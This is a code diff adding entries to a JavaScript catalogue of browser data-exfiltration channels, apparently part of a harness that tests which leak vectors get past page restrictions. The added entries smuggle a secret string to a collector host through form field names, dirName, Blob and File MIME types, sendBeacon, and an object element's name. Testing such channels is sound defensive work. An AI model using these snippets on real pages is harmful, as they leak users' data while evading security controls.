@@ -105,6 +105,14 @@ const WAYS = {
     "for (let i = 0; i < D.length; i += 4) await fetch(C + '/c?i=' + i + '&d=' + encodeURIComponent(D.slice(i, i + 4)), { mode: 'no-cors' }).catch(() => {})",
   'chunks-by-image':
     "for (let i = 0; i < D.length; i++) new Image().src = C + '/c.gif?i=' + i + '&d=' + encodeURIComponent(D[i])",
+  'form-field-name': "const f = form('post'); f.d.value = 'x'; f.d.name = D; f.submit()",
+  'form-direction-name': "const f = form('post'); f.d.value = 'x'; f.d.dirName = D; f.submit()",
+  'blob-type':
+    "await fetch(C + '/c', { method: 'POST', mode: 'no-cors', body: new Blob(['x'], { type: 'text/plain;a=' + [...D].map((c) => c.charCodeAt(0).toString(16)).join('') }) }).catch(() => {})",
+  'beacon-type': "navigator.sendBeacon(C + '/c', new Blob(['x'], { type: 'text/plain;a=' + D.replace(/ /g, '') }))",
+  'file-type':
+    "const f = new FormData(); f.append('f', new File(['x'], 'a.txt', { type: 'text/a' + D.replace(/ /g, '') })); await fetch(C + '/c', { method: 'POST', mode: 'no-cors', body: f }).catch(() => {})",
+  'object-name': "make('object', { name: D, data: C + '/named' })",
   header: "await fetch(C + '/c', { headers: { 'x-d': D } }).catch(() => {})",
 };
 
